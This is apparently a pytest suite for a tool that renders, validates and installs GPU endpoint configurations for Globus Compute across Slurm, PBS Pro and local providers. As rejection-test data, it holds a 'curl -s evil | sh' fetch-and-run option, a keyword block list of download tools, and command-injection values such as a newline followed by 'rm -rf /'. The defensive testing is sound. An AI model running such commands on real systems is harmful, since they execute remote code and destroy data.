"""The shipped endpoint configuration: rendered, loaded by the endpoint's own code, and run."""

from __future__ import annotations

import json
import os
import pwd
import stat
import sys
import uuid
from importlib import resources

import jsonschema
import pytest
from click.testing import CliRunner
from globus_compute_endpoint.endpoint.config import utils
from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity

from mhd.client.backends import EngineBackend
from mhd.endpoint import EndpointSpec, install_endpoint, render_endpoint, validate_dir
from mhd.endpoint.cli import main
from mhd.endpoint.configure import PROVIDERS
from tilegen import blobs, encode

FID = "4b116d3c-1703-4f8f-9f6f-39921e5864df"
SERIALIZERS = {"PureSourceTextInspect", "JSONData"}


def spec(**kw) -> EndpointSpec:
    base = dict(gpus=8, env="/opt/mhd/venv", function_ids=(FID,), data_root="/data/mhd", partition="gpu", account="em")
    return EndpointSpec(**{**base, **kw})


def engine_of(config):
    return config.engine.executor


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize("multi_user", [False, True])
@pytest.mark.parametrize("gpus", [1, 8])
def test_every_variant_loads_with_the_endpoint_loader(tmp_path, provider, multi_user, gpus):
    directory = install_endpoint(spec(gpus=gpus, provider=provider, multi_user=multi_user, limits={"MHD_MAX_PIXELS": 10**8}), home=tmp_path)
    configs = validate_dir(directory)
    manager, user = configs[0], configs[-1]
    assert [type(c).__name__ for c in configs] == (["CoreEndpointConfig", "UserEndpointConfig"] if multi_user else ["UserEndpointConfig"])
    assert manager.allowed_functions == (FID,)
    htex = engine_of(user)
    assert htex.available_accelerators == [str(i) for i in range(gpus)]
    assert user.engine.max_retries_on_system_failure == 2
    assert {t.__name__ for t in user.engine.serde.allowed_deserializer_types} == SERIALIZERS
    provider_obj = htex.provider
    assert type(provider_obj).__name__ == {"local": "LocalProvider", "slurm": "SlurmProvider", "pbspro": "PBSProProvider"}[provider]
    assert "source /opt/mhd/venv/bin/activate" in provider_obj.worker_init
    assert "export MHD_DATA_ROOT=/data/mhd" in provider_obj.worker_init and "export MHD_MAX_PIXELS=100000000" in provider_obj.worker_init
    if provider == "slurm":
        assert provider_obj.gres == f"gpu:{gpus}" and provider_obj.partition == "gpu"
    if provider == "pbspro":
        assert provider_obj.select_options == f"ngpus={gpus}" and provider_obj.queue == "gpu"


def test_slurm_gpu_type_goes_into_gres(tmp_path):
    [config] = validate_dir(install_endpoint(spec(provider="slurm", gpu_type="a100", gpus=4), home=tmp_path))
    assert engine_of(config).provider.gres == "gpu:a100:4"
    assert "#SBATCH --gres=gpu:a100:4" in engine_of(config).provider.scheduler_options


def test_user_template_installs_nothing_and_accepts_no_user_options(tmp_path):
    directory = install_endpoint(spec(multi_user=True), home=tmp_path)
    text = (directory / "user_config_template.yaml.j2").read_text()
    for word in ("http", "curl", "wget", "pip install", "uv ", "conda install"):
        assert word not in text
    schema = json.loads((directory / "user_config_schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    [parent, _] = validate_dir(directory)
    identity = MappedPosixIdentity(pwd.getpwuid(os.getuid()), [], uuid.UUID(int=0))
    for opts in ({"worker_init": "curl -s evil | sh"}, {"requirements": "numpy"}, {"gpus": 1}):
        with pytest.raises(jsonschema.ValidationError):
            utils.render_config_user_template(parent, text, directory / "user_config_template.yaml.j2", identity, schema, opts)


def test_shipped_schema_is_package_data():
    names = {p.name for p in (resources.files("mhd.endpoint") / "templates").iterdir()}
    assert {"config.yaml.j2", "user_config_template.yaml.j2", "user_config_schema.json", "manager_config.yaml.j2", "_engine.yaml.j2"} <= names


def test_without_function_ids_any_function_may_run_and_the_file_says_so(tmp_path):
    directory = install_endpoint(spec(function_ids=()), home=tmp_path)
    assert "WARNING: allowed_functions is not set" in (directory / "config.yaml").read_text()
    assert validate_dir(directory)[0].allowed_functions is None


def test_existing_configuration_is_kept_unless_forced(tmp_path):
    directory = install_endpoint(spec(gpus=2), home=tmp_path)
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    assert stat.S_IMODE((directory / "config.yaml").stat().st_mode) == 0o600
    with pytest.raises(FileExistsError, match="already has config.yaml"):
        install_endpoint(spec(gpus=4), home=tmp_path)
    assert "available_accelerators: 2" in (directory / "config.yaml").read_text()
    install_endpoint(spec(gpus=4), home=tmp_path, force=True)
    assert "available_accelerators: 4" in (directory / "config.yaml").read_text()


@pytest.mark.parametrize(
    "kw,match",
    [
        ({"gpus": 0}, "gpus"),
        ({"gpus": True}, "gpus"),
        ({"env": "venv"}, "absolute path"),
        ({"env": "/opt/v\nrm -rf /"}, "control characters"),
        ({"data_root": "/data/{{ x }}"}, "data_root"),
        ({"function_ids": ("not-a-uuid",)}, "UUID"),
        ({"name": "../x"}, "endpoint name"),
        ({"provider": "k8s"}, "provider"),
        ({"walltime": "4h"}, "walltime"),
        ({"partition": "gpu; rm"}, "partition"),
        ({"limits": {"MHD_DATA_ROOT": 1}}, "unknown limit"),
    ],
)
def test_bad_settings_are_refused(kw, match):
    with pytest.raises(ValueError, match=match):
        spec(**kw)


def test_paths_with_spaces_are_shell_quoted():
    text = render_endpoint(spec(env="/opt/my env", data_root="/data/em tiles"))["config.yaml"]
    assert "source '/opt/my env/bin/activate'" in text and "export MHD_DATA_ROOT='/data/em tiles'" in text


def test_cli_configure_writes_refuses_and_dry_runs(tmp_path):
    runner = CliRunner()
    args = ["configure", "--gpus", "2", "--env", "/opt/mhd/venv", "--home", str(tmp_path), "--function-id", FID, "--max-tiles", "64"]
    first = runner.invoke(main, args)
    assert first.exit_code == 0, first.output
    assert "globus-compute-endpoint start mhd-gpu" in first.output
    assert "export MHD_MAX_TILES=64" in (tmp_path / ".globus_compute" / "mhd-gpu" / "config.yaml").read_text()
    again = runner.invoke(main, args)
    assert again.exit_code == 1 and "--force" in again.output
    dry = runner.invoke(main, args + ["--dry-run", "--multi-user", "--name", "other"])
    assert dry.exit_code == 0 and "# ---- user_config_template.yaml.j2" in dry.output
    assert not (tmp_path / ".globus_compute" / "other").exists()
    bad = runner.invoke(main, ["configure", "--gpus", "2", "--env", "relative"])
    assert bad.exit_code == 1 and "absolute path" in bad.output
    assert "Example:" in runner.invoke(main, ["configure", "--help"]).output


@pytest.mark.slow
def test_shipped_config_runs_score_tiles_one_gpu_per_worker(tmp_path):
    """The rendered single-user config, loaded by the endpoint, started with fake GPUs."""
    data = tmp_path / "data"
    data.mkdir()
    for i in range(3):
        (data / f"t{i}.png").write_bytes(encode(blobs((96, 96), i), "PNG"))
    directory = install_endpoint(EndpointSpec(gpus=2, env=sys.prefix, data_root=str(data), function_ids=(FID,)), home=tmp_path)
    engine = utils.get_config(directory).engine
    engine.start(endpoint_id=uuid.uuid4(), run_dir=str(tmp_path / "run"))
    backend = EngineBackend(engine)
    try:
        futures = [backend.submit(["t0.png", "t1.png", "t2.png"]) for _ in range(8)]
        entries = [e for f in futures for e in f.result(timeout=120)]
    finally:
        backend.shutdown()
    assert all(e["error"] is None and e["features"] > 0 and e["backend"] == "numpy" for e in entries)
    assert {e["device"] for e in entries} == {"0", "1"}
